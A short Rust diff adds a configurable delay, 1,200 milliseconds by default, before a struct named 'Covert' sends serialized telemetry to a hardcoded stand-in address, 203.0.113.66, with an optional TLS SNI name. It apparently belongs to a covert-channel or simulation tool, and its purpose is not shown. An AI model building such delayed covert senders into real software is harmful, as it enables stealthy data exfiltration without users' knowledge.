@@ -64,6 +64,9 @@ pub struct Covert {
     /// When it is opened.
     #[serde(default = "Covert::default_when")]
     pub when: When,
+    /// So many milliseconds after that.
+    #[serde(default)]
+    pub after_ms: u64,
     /// Name in the ClientHello; none leaves the extension out.
     #[serde(default)]
     pub sni: Option<String>,
@@ -77,6 +80,7 @@ impl Default for Covert {
             address: Ipv4Addr::new(203, 0, 113, 66).into(),
             port: Self::default_port(),
             when: Self::default_when(),
+            after_ms: 1_200,
             sni: None,
         }
     }
@@ -93,6 +97,7 @@ impl Covert {
 
     /// Sends the telemetry once.
     pub(super) fn send(&self, telemetry: &Value) -> io::Result<()> {
+        std::thread::sleep(Duration::from_millis(self.after_ms));
         let mut payload = telemetry.to_string().into_bytes();
         payload.push(b'\n');
         let to = SocketAddr::new(self.address, self.port);
